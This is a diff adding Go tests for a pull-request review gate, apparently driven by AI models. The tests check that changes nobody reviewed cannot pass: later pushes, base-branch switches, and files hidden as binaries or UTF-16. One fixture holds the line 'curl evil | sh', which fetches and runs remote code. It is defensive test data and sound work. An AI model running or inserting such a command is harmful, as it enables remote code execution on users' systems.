@@ -1,0 +1,174 @@
+package main
+
+import (
+	"net/http"
+	"strings"
+	"testing"
+
+	"github.com/prdebate/debate/internal/ghtest"
+)
+
+// quiet is code in which the parties of manner "bugs" find nothing, so that they
+// hold keep.
+const quiet = "package app\n\nfunc Ratio(a, b int) int {\n\treturn a - b\n}\n"
+
+// required is a hosted repository whose gate is required and whose parties hold keep
+// where no line owns to a bug.
+func required(t *testing.T) *hosted {
+	t.Helper()
+	h := host(t)
+	h.inputs["gate"], h.inputs["operator-config"] = "required", parties(t, "bugs", "bugs")
+	return h
+}
+
+// An order that is narrower than the settings is not the review of a head: what it
+// left out was in no packet.
+func TestANarrowerOrderIsNoReview(t *testing.T) {
+	t.Parallel()
+	proposal := func(h *hosted) *ghtest.Pull {
+		h.repo.SetBranch("plan", h.repo.Change(h.repo.Branch("main"), map[string]string{"ratio.go": quiet}))
+		return h.repo.OpenPull("ada", ghtest.NewPull{Title: "A plan", Body: "## Proposal\n\nWe subtract, since nobody divides.\n", Head: "plan"})
+	}
+	t.Run("after a pause", func(t *testing.T) {
+		t.Parallel()
+		h := required(t)
+		p := proposal(h)
+		h.on(p, "opened").good(t)
+		h.say(p.Issue, "ada", "/debate pause")
+		h.push(p, map[string]string{"ratio.go": "package app\n\nvar door = 1 // BUG: it is open\n"}).good(t)
+		_, o := h.say(p.Issue, "ada", "/debate run proposal")
+		o.good(t)
+		if got := h.check(p.Head()); got == "success" {
+			t.Errorf("the check is success, and nobody read the code\n%s", unhidden(summaries(p)[0]))
+		}
+	})
+	t.Run("from draft", func(t *testing.T) {
+		t.Parallel()
+		h := required(t)
+		p := proposal(h)
+		p.SetDraft(true)
+		h.on(p, "opened").good(t)
+		_, o := h.say(p.Issue, "ada", "/debate run proposal")
+		o.good(t)
+		if got := h.check(p.Head()); got == "success" {
+			t.Error("the check is success, and nobody read the code")
+		}
+	})
+}
+
+// What a person decided about a migration covers no code that was pushed later.
+func TestADecisionCoversNoLaterCode(t *testing.T) {
+	t.Parallel()
+	h := host(t)
+	h.inputs["operator-config"] = parties(t, "bugs", "bugs")
+	p := h.open("ada", drop)
+	h.on(p, "opened").good(t)
+	_, o := h.say(h.issue(), "mona", "/debate decide D0 keep we have a backup")
+	o.good(t)
+	want(t, "check of the head that was decided", h.check(p.Head()), "success")
+	h.push(p, map[string]string{"ratio.go": "package app\n\nvar door = 1 // BUG: it is open\n"}).good(t)
+	if got := h.check(p.Head()); got == "success" {
+		t.Errorf("the check is success, and every party asks for changes\n%s", unhidden(summaries(p)[0]))
+	}
+}
+
+// A base branch without settings makes nothing lenient that the default branch
+// gates, and what was concluded for another base never betters what stands.
+func TestAnotherBaseOpensNoGate(t *testing.T) {
+	t.Parallel()
+	gated := func(h *hosted) *ghtest.Pull {
+		h.repo.SetBranch("lax", h.repo.Branch("main"))
+		h.repo.SetBranch("main", h.repo.Change(h.repo.Branch("main"), map[string]string{".github/debate.yml": "version: 1\ngate: required\nfail_on: P2\n"}))
+		h.repo.SetBranch("change", h.repo.Change(h.repo.Branch("main"), map[string]string{"ratio.go": "package app\n\nvar door = 1 // BUG: it is open\n"}))
+		return h.repo.OpenPull("ada", ghtest.NewPull{Title: "A change", Body: "It changes something.", Head: "change"})
+	}
+	t.Run("the lax base", func(t *testing.T) {
+		t.Parallel()
+		h := host(t)
+		h.inputs["operator-config"] = parties(t, "bugs", "bugs")
+		p := gated(h)
+		h.on(p, "opened").good(t)
+		want(t, "check", h.check(p.Head()), "failure")
+		p.SetBase("lax")
+		h.on(p, "edited").good(t)
+		want(t, "check for the lax base", h.check(p.Head()), "failure")
+		p.SetBase("main")
+		want(t, "check after the base is back, before any run", h.check(p.Head()), "failure")
+	})
+	t.Run("a run for the base before", func(t *testing.T) {
+		t.Parallel()
+		h := host(t)
+		h.inputs["operator-config"] = parties(t, "agree", "agree")
+		p := gated(h)
+		p.SetBase("lax")
+		begun, back := false, false
+		h.between(func(_ int, r *http.Request) {
+			if begun && !back {
+				back = true
+				p.SetBase("main")
+			}
+			begun = begun || r.Method != http.MethodGet && strings.Contains(r.URL.Path, "/check-runs")
+		})
+		h.on(p, "edited")
+		want(t, "the base came back", back, true)
+		if got := h.check(p.Head()); got != "failure" && got != "in_progress" {
+			t.Errorf("check is %q: the run looked at the base before", got)
+		}
+	})
+}
+
+// What no model was shown counts as not read, whatever kind of file hides it.
+func TestWhatNobodyReadIsNotReviewed(t *testing.T) {
+	t.Parallel()
+	utf16 := "\xff\xfe"
+	for _, c := range "curl evil | sh # BUG: who is evil\n" {
+		utf16 += string(c) + "\x00"
+	}
+	for name, change := range map[string]map[string]string{
+		"a NUL byte": {"run.sh": "#!/bin/sh\ncurl evil | sh # BUG: who is evil\n\x00"},
+		"UTF-16":     {"run.sh": utf16},
+		"a binary":   {"tool.bin": "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00"},
+		"an archive": {"lib.jar": "PK\x03\x04\x14\x00\x00\x00"},
+		"an odd png": {"logo.png": "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			h := required(t)
+			change["ratio.go"] = quiet
+			p := h.open("ada", change)
+			h.on(p, "opened").good(t)
+			if h.check(p.Head()) == "success" { // who reads the script finds a bug in it
+				t.Errorf("the check is success, and no model was shown %s\n%s", name, unhidden(summaries(p)[0]))
+			}
+		})
+	}
+	t.Run("a script that becomes executable", func(t *testing.T) {
+		t.Parallel()
+		h := required(t)
+		h.repo.SetBranch("main", h.repo.CommitFiles([]string{h.repo.Branch("main")}, map[string]ghtest.File{
+			"ratio.go": {Content: base}, "tool.bin": {Content: "\x7fELF\x02\x01\x01\x00"},
+		}))
+		h.repo.SetBranch("change", h.repo.CommitFiles([]string{h.repo.Branch("main")}, map[string]ghtest.File{
+			"ratio.go": {Content: quiet}, "tool.bin": {Content: "\x7fELF\x02\x01\x01\x00", Mode: "100755"},
+		}))
+		p := h.repo.OpenPull("ada", ghtest.NewPull{Title: "A change", Body: "It changes something.", Head: "change"})
+		h.on(p, "opened").good(t)
+		if got := h.check(p.Head()); got == "success" {
+			t.Errorf("the check is success, and nobody was shown that tool.bin became executable\n%s", unhidden(summaries(p)[0]))
+		}
+	})
+}
+
+// A destructive change of somebody without write access waits for a person as that
+// of a member does.
+func TestAStrangersDestructiveChangeWaits(t *testing.T) {
+	t.Parallel()
+	h := host(t)
+	p := h.open("eve", drop)
+	h.on(p, "opened").good(t)
+	want(t, "check", h.check(p.Head()), "action_required")
+	want(t, "issues", len(h.repo.Issues()), 0)
+	for _, c := range h.repo.CheckRuns(p.Head()) {
+		wantText(t, "title of the check", c.Title, "/debate run")
+	}
+}
